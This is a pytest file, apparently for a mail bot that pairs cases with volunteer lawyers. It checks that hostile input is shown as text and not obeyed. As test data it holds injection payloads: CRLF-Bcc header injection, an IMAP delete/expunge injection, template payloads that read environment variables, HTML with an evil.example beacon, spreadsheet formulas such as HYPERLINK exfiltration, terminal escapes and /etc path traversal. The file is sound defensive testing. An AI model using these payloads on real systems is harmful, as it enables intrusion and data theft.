"""G-21: group I of the attacks: whatever is written into a mail, a name or a title is printed as it stands, or not at all, and never obeyed."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

from bot.core.mail import RawMail
from bot.reception import enter_all
from bot.shell.letters import Typesetter, check_outgoing
from bot.shell.settings import SettingsError, load
from tests.attacks.desk import ALICE, BOB, SATO, SUZUKI, Desk
from tests.attacks.raw_mail import parts, raw
from tests.shell.imap_meetings import INBOX, announces, body, lists, meeting, sends
from tests.shell.letters_samples import HOUSE, MESSAGE_ID, NOW, every_letter, hostile
from tests.story import command
from tests.story.people import Letter

SEPARATORS = {"CR LF": "\r\n", "LF": "\n", "CR": "\r"}


def plain(letter: Letter) -> str:
    """The text on one line, as it reads."""
    return " ".join(letter.text.split())


def a_day_with(desk: Desk, *, title: str, name: str, summary: str = "An appeal.") -> list[Letter]:
    """A round, a claim and its confirmation, a mail to staff and a listing, all with these words in them."""
    desk.joins(ALICE, name=name)
    desk.names[ALICE] = "Alice"
    case = desk.case(title, summary)
    desk.sends_the_round()
    desk.writes(ALICE, f"CLAIM {case}")
    desk.writes(ALICE, f"What about {title}", subject=title.replace("\r", " ").replace("\n", " "))
    desk.settles()
    desk.writes(SUZUKI, f"EXPLAIN {case}")
    desk.writes(SUZUKI, f"SHOW {case}")
    assert desk.standing(case) == {ALICE: "confirmed"}
    return desk.letters()


def is_sound(letter: Letter) -> None:
    """One recipient, the fields we write and no other, and nothing else in the envelope."""
    check_outgoing(letter.received.raw, letter.received.rcpt[0])
    head: EmailMessage = letter.headers
    assert len(head.get_all("To", [])) == 1 and not {name.lower() for name in head} & {"bcc", "cc"} and len(head["To"].addresses) == 1


@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS)
def test_I_02_a_line_break_in_a_name_or_title_starts_no_header(desk: Desk, separator: str) -> None:
    letters = a_day_with(desk, title=f"Appeal{separator}Bcc: m@e.example", name=f"Alice{separator}Bcc: m@e.example")
    assert len(letters) >= 8
    for letter in letters:
        is_sound(letter)
    assert {letter.received.rcpt[0] for letter in letters} <= {ALICE, BOB, SATO, SUZUKI, "chika.@docomo.ne.jp"}


@pytest.mark.parametrize("breaks", ["=0D=0A", "=0A", "=0D"])
def test_I_02_a_display_name_that_decodes_to_a_line_break_starts_no_header(desk: Desk, breaks: str) -> None:
    desk.arrives(raw(f"From: =?utf-8?q?Alice{breaks}Bcc=3A_m=40e.example?= <{ALICE}>", sender=ALICE, body="May I ask you something."))
    assert {letter.received.rcpt[0] for letter in desk.letters()} == {ALICE, SATO, SUZUKI}
    for letter in desk.letters():
        is_sound(letter)
    assert "Alice Bcc: m@e.example" in plain(desk.last_letter_to(SUZUKI)), "staff see the name as it was given, on one line"


HOSTILE_IDS = {
    "folded field": "Message-ID: <x@y>\r\n Bcc: m@e.example",
    "5 kB": f"Message-ID: <{'x' * 5000}@y>",
    "spaces": "Message-ID: <a b@c d>",
    "empty": "Message-ID:",
    "no brackets": "Message-ID: x@y",
    "two": "Message-ID: <x@y> <z@y>",
    "not ASCII": "Message-ID: <案@y>",
    "NUL": "Message-ID: <x\0@y>",
    "251 long": f"Message-ID: <{'x' * 247}@yz>",
}


@pytest.mark.parametrize("field", HOSTILE_IDS.values(), ids=HOSTILE_IDS)
def test_I_04_an_unfit_message_id_is_not_quoted_in_our_thread_fields(desk: Desk, field: str) -> None:
    desk.arrives(raw(field, sender=ALICE, body="HELP"))
    answer = desk.last_letter_to(ALICE)
    is_sound(answer)
    assert answer.headers["In-Reply-To"] is None and answer.headers["References"] is None


def test_I_04_a_fit_message_id_is_quoted_as_it_is(desk: Desk) -> None:
    fit = f"<{'x' * 240}@y>"
    desk.arrives(raw(f"Message-ID: {fit}", sender=ALICE, body="HELP"))
    head = desk.last_letter_to(ALICE).headers
    assert (head["In-Reply-To"], head["References"]) == (fit, fit)


IMAP_INJECTION = b'Message-ID: <x"\r\n X1 STORE 1:* +FLAGS (\\Deleted)\r\n X2 EXPUNGE>\r\n'


def test_I_05_nothing_from_a_mail_reaches_the_imap_server_as_a_command(desk: Desk) -> None:
    mail = IMAP_INJECTION + raw("Message-ID: <y@z>", sender=ALICE, body="HELP")
    with meeting(lists(4), announces(4, size=len(mail)), sends(body(4, mail)), exists=4) as (mailbox, server):
        news = mailbox.news(INBOX, uidvalidity=None, above=0)
        for found in mailbox.fetch(news, news.uids):
            assert isinstance(found, RawMail)
            enter_all(desk.office, [found])
        received = server.received
    assert len(desk.endings()) == 1 and b"BODY.PEEK" in received
    assert not re.search(rb"X1|X2|STORE|EXPUNGE|Deleted", received)


@pytest.mark.parametrize("key", ["folder", "junk_folder", "archive_folder"])
def test_I_05_a_folder_with_a_line_break_is_refused_before_any_connection(desk: Desk, tmp_path: Path, key: str) -> None:
    path = tmp_path / "firstreply.toml"
    lines = [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("junk_folder")]
    lines.insert(lines.index("[imap]") + 1, f'{key} = "INBOX\\r\\nX1 DELETE INBOX"')
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(SettingsError, match="line break"):
        load(path, {})


TEMPLATES = ["{{7*7}}", "{{cycler.__init__.__globals__.os.environ}}", "{% for x in range(10**9) %}", "${7*7}", "{0.__class__}", "%s%n"]


@pytest.mark.parametrize("payload", TEMPLATES)
def test_I_06_a_template_in_a_title_or_a_name_is_printed_as_it_stands(desk: Desk, payload: str) -> None:
    letters = a_day_with(desk, title=f"Appeal {payload}", name=f"Alice {payload}", summary=f"About {payload}.")
    the_round, confirmed = letters[0], next(letter for letter in letters if "is yours" in letter.subject)
    for letter in (the_round, confirmed):
        assert f"Appeal {payload}" in plain(letter) and f"Alice {payload}" in plain(letter)
        assert html.escape(f"Appeal {payload}", quote=False) in html.unescape(" ".join(letter.html.split())) or payload in letter.html
    for letter in letters:
        is_sound(letter)
        assert "Appeal 49" not in plain(letter) and "PATH" not in letter.text and "only this desk knows" not in letter.text


MARKUP = "<img src=//evil.example/p.png><style>*{display:none}</style><a href=javascript:1>x</a>"


class Tags(HTMLParser):
    """Every element, and every value that could lead out of a letter."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.names: list[str] = []
        self.leads: list[str] = []
        self.attributes: set[str] = set()
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.leads += [value or "" for name, value in attrs if name in ("href", "src", "action", "background", "poster", "data")]


HARMLESS_TAGS = set("html head meta title style body table tr td p div span b br h1 h2 h3 ul ol li a i small th blockquote wbr".split())


def is_harmless_page(source: str) -> None:
    tags = Tags(source)
    assert set(tags.names) <= HARMLESS_TAGS, set(tags.names) - HARMLESS_TAGS
    assert tags.names.count("style") <= 2 and not re.search(r"url\(|@import|expression\(", source)
    assert all(lead.startswith("mailto:") for lead in tags.leads) and not {name for name in tags.attributes if name.startswith("on")}


def test_I_07_markup_in_a_title_is_shown_and_not_obeyed(desk: Desk) -> None:
    letters = a_day_with(desk, title=MARKUP, name=f"Alice {MARKUP}", summary=MARKUP)
    for letter in letters:
        is_harmless_page(letter.html)
    assert "<img src=//evil.example/p.png>" in plain(letters[0])
    assert "&lt;img src=//evil.example/p.png&gt;" in letters[0].html and "<img" not in "".join(letter.html for letter in letters)


FILE = '"><img src=x onerror=1>.txt'


@pytest.mark.parametrize(
    ("fields", "ending"),
    [((), "no command found"), (("Subject: a", "Subject: b"), "it has two Subject fields")],
    ids=["prose", "set aside"],
)
def test_I_08_a_hostile_name_and_attachment_are_shown_to_staff_as_text(desk: Desk, fields: tuple[str, ...], ending: str) -> None:
    quoted = FILE.replace('"', '\\"')
    kind, mail_body = parts(
        "mixed",
        "Content-Type: text/plain\n\nPlease see the attached.",
        f'Content-Type: text/plain\nContent-Disposition: attachment; filename="{quoted}"\n\nx',
    )
    desk.arrives(
        raw(f'From: "<script>1</script> {MARKUP[:30]}" <{ALICE}>', kind, "MIME-Version: 1.0", *fields, sender=ALICE, body=mail_body)
    )
    assert desk.endings() == [("for_staff", ending)]
    for staff in (SATO, SUZUKI):
        letter = desk.last_letter_to(staff)
        is_harmless_page(letter.html)
        is_sound(letter)
        assert FILE in plain(letter) and "<script>1</script>" in letter.text
        assert "&lt;img src=x onerror=1&gt;" in letter.html and "&lt;script&gt;" in letter.html


def test_I_08_few_attachments_are_named_however_many_there_are(desk: Desk) -> None:
    files = [f'Content-Type: image/png\nContent-Disposition: attachment; filename="{number}.png"\n\nx' for number in range(30)]
    kind, mail_body = parts("mixed", "Content-Type: text/plain\n\nSee here.", *files)
    desk.arrives(raw(kind, "MIME-Version: 1.0", sender=ALICE, body=mail_body))
    assert "9.png" in desk.last_letter_to(SUZUKI).text and "10.png" not in desk.last_letter_to(SUZUKI).text


BREAK_OUT = 'x","=1+1","y'
"""Harmless once it has stayed one cell."""
FORMULAS = [
    '=HYPERLINK("http://e/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    " =1",
    BREAK_OUT,
    "name\n=1",
    "\ufeff=1",
]
HARMLESS = ["O'Neil & Co.", "伊藤 明子", "a-b, c;d", "2027-03-01", 'say "hi"', "x = y"]


def table(content: bytes) -> list[dict[str, str]]:
    """As a spreadsheet program takes it in."""
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("noun", "column"), [("roster", "name"), ("case", "title")])
def test_I_09_I_10_an_export_starts_no_formula_and_keeps_each_cell_one_cell(desk: Desk, tmp_path: Path, noun: str, column: str) -> None:
    for number, text in enumerate([*FORMULAS, *HARMLESS]):
        if noun == "roster":
            desk.joins(f"m{number}@lawfirm.example", name=text)
        else:
            desk.case(text, summary=text)
    outcome = command.run(tmp_path, noun, "export", "out.csv")
    rows = table((tmp_path / "out.csv").read_bytes())[-len(FORMULAS) - len(HARMLESS) :]
    assert outcome.code == 0 and all(None not in row and None not in row.values() for row in rows)
    cells = [row[column] for row in rows]
    assert cells == [*(formula if formula == BREAK_OUT else f"'{formula}" for formula in FORMULAS), *HARMLESS]


def test_I_09_what_is_exported_is_imported_again_as_it_was(desk: Desk, tmp_path: Path) -> None:
    for number, text in enumerate(["=1+1 Ltd", "+81 office", *HARMLESS]):
        desk.joins(f"m{number}@lawfirm.example", name=text, firm=text, aliases=(f"also{number}@lawfirm.example",))
        desk.case(text, f"{text}\nsecond line", details=f"Details of {text}", contact=text, places=2)
    other = tmp_path / "other"
    other.mkdir()
    Desk.open(other).office.ledger.close()
    for noun, words in (("roster", ()), ("case", ("--with-details",))):
        assert command.run(tmp_path, noun, "export", "out.csv", *words).code == 0
        assert (tmp_path / "out.csv").stat().st_mode & 0o077 == 0, "only its owner may read it"
        outcome = command.run(other, noun, "import", str(tmp_path / "out.csv"))
        assert outcome.code == 0, outcome.err
        (tmp_path / "out.csv").rename(tmp_path / f"first {noun}.csv")
        assert command.run(other, noun, "export", str(tmp_path / "out.csv"), *words).code == 0
        assert (tmp_path / "out.csv").read_bytes() == (tmp_path / f"first {noun}.csv").read_bytes()
        (tmp_path / "out.csv").unlink()


def test_I_09_without_being_asked_an_export_holds_nothing_confidential(desk: Desk, tmp_path: Path) -> None:
    desk.case("Appeal", details="QZX CANARY NAME", conflict_names="QZX CANARY NAME", contact="+81-90-0000-4242")
    out = command.run(tmp_path, "case", "export").out
    assert "Appeal" in out and "CANARY" not in out and "4242" not in out
    columns = out.lstrip("\ufeff").splitlines()[0].replace('"', "").split(",")
    assert columns[:2] == ["title", "kind"] and not {"details", "contact", "conflict_check", "conflict_names"} & set(columns)


INVISIBLE = "\u202e\u2066\u200b"


def is_visible(text: str) -> bool:
    return not any(
        unicodedata.category(sign) in ("Cf", "Cs", "Co") or (unicodedata.category(sign) == "Cc" and sign != "\n") for sign in text
    )


def test_I_12_bidirectional_and_invisible_signs_reach_no_letter(desk: Desk) -> None:
    letters = a_day_with(desk, title=f"App{INVISIBLE}eal", name=f"Ali{INVISIBLE}ce", summary=f"An {INVISIBLE}appeal.")
    for letter in letters:
        assert is_visible(letter.text) and is_visible(letter.html) and is_visible(letter.subject) and is_visible(str(letter.headers["To"]))
    assert "Appeal" in letters[0].text and "Dear Alice," in letters[0].text


def test_I_12_an_attachment_cannot_turn_its_name_round(desk: Desk) -> None:
    name = "exe.\u202egpj"
    kind, mail_body = parts(
        "mixed",
        "Content-Type: text/plain\n\nA picture.",
        "Content-Type: image/jpeg\nContent-Disposition: attachment; filename*=utf-8''exe.%E2%80%AEgpj\n\nx",
    )
    desk.arrives(raw(f"From: =?utf-8?b?{'QWxpY2XigK5lY2Fs'}?= <{ALICE}>", kind, "MIME-Version: 1.0", sender=ALICE, body=mail_body))
    letter = desk.last_letter_to(SUZUKI)
    assert name not in letter.text and "exe.gpj" in letter.text and "Aliceecal" in letter.text and is_visible(letter.text)


@pytest.mark.parametrize(
    "words", [("case", "list"), ("roster", "list"), ("inbox", "list"), ("outbox", "list"), ("case", "show", "JUS-2026-001")]
)
def test_I_12_a_listing_shows_nothing_that_a_terminal_obeys(desk: Desk, tmp_path: Path, words: tuple[str, ...]) -> None:
    hostile_text = f"x{INVISIBLE}\x1b]0;pwn\x07\x9b31m\x7fy"
    desk.joins(ALICE, name=hostile_text, firm=hostile_text)
    desk.case(hostile_text, hostile_text)
    desk.arrives(raw(f"Subject: {hostile_text}", sender=ALICE, body="hello"))
    told = command.run(tmp_path, *words)
    document = command.run(tmp_path, *words, "--json")
    for outcome in (told, document):
        assert outcome.code == 0 and is_visible(outcome.out.replace("\u3000", ""))
    if words[0] in ("case", "roster"):
        assert hostile_text in everything(json.loads(document.out)), "a program that reads the document gets the very text"


def everything(document: object) -> list[object]:
    values = document.values() if isinstance(document, dict) else document if isinstance(document, list) else []
    return [document, *(deeper for value in values for deeper in everything(value))]


def test_I_12_a_title_that_staff_write_is_kept_without_its_invisible_signs(desk: Desk) -> None:
    desk.writes(SATO, f"Title: Asylum{INVISIBLE} appeal\nSummary: An appeal.", subject="NEW CASE")
    with desk.office.ledger.reading() as ledger:
        assert [case.title for case in ledger.cases.all()] == ["Asylum appeal"]


@pytest.mark.parametrize(
    "field",
    ["Message-ID: <../../../etc/cron.d/x/y@z>", "Subject: CLAIM ../../x", "In-Reply-To: </etc/passwd@x>"],
    ids=["id", "case", "thread"],
)
def test_I_14_no_path_from_a_mail_becomes_a_file(desk: Desk, tmp_path: Path, field: str) -> None:
    before = {path.name for path in tmp_path.rglob("*")}
    kind, mail_body = parts(
        "mixed",
        "Content-Type: text/plain\n\nCLAIM ../../x",
        'Content-Type: text/csv; name="../../etc/cron.d/x"\nContent-Disposition: attachment; filename="../../etc/cron.d/x.csv"\n\ntitle,summary',
    )
    for sender in (ALICE, SATO):
        desk.arrives(raw(field, kind, "MIME-Version: 1.0", sender=sender, body=mail_body))
    assert {path.name for path in tmp_path.rglob("*")} - before <= {"firstreply.db-wal", "firstreply.db-shm"}
    assert "../" not in "".join(line for line in desk.last_letter_to(SUZUKI).text.splitlines() if "Attached" in line)


LETTERS = [(f"{language}-{name}", one) for language in ("en", "ja") for name, one in every_letter(language)]
LINK = re.compile(r"mailto:[A-Za-z0-9%@._~+-]+(?:\?subject=[A-Za-z0-9%._~-]+(?:&body=[A-Za-z0-9%._~-]+)?)?")


def test_I_15_I_16_every_link_of_every_letter_is_a_mailto_in_which_all_is_encoded() -> None:
    """No page, no picture, nothing that a scanner could call up: what happens, happens by a mail that a person sends."""
    typesetter = Typesetter(HOUSE)
    for name, one in LETTERS:
        for letter in (one, hostile(one)):
            page = typesetter.preview(letter, now=NOW, reader_name="Ito", code=MESSAGE_ID.strip("<>").partition("@")[0])
            is_harmless_page(page.html)
            for link in Tags(page.html).leads:
                assert LINK.fullmatch(link), (name, link)
                assert not re.search(r"[\r\n]", unquote(link.partition("&body=")[0])), (name, link)


def test_I_16_to_unsubscribe_is_a_mail_and_never_takes_a_case_away(desk: Desk) -> None:
    held, waiting = desk.case("Held"), desk.case("Waiting")
    desk.writes(BOB, f"CLAIM {waiting}", at=0)
    desk.writes(ALICE, f"CLAIM {held} {waiting}", at=5)
    desk.settles()
    desk.case("Third")
    desk.sends_the_round()
    the_round = desk.last_letter_to(ALICE)
    target = str(the_round.headers["List-Unsubscribe"])
    assert re.fullmatch(rf"<{LINK.pattern}>", target) and the_round.headers["List-Unsubscribe-Post"] is None
    desk.writes(ALICE, "", subject=unquote(target.partition("?subject=")[2].rstrip(">")), proven=None)
    assert desk.members()[ALICE] == "active" and desk.standing(held) == {ALICE: "confirmed"}
    assert held in desk.last_letter_to(ALICE).text, "who holds a case is asked what becomes of it"
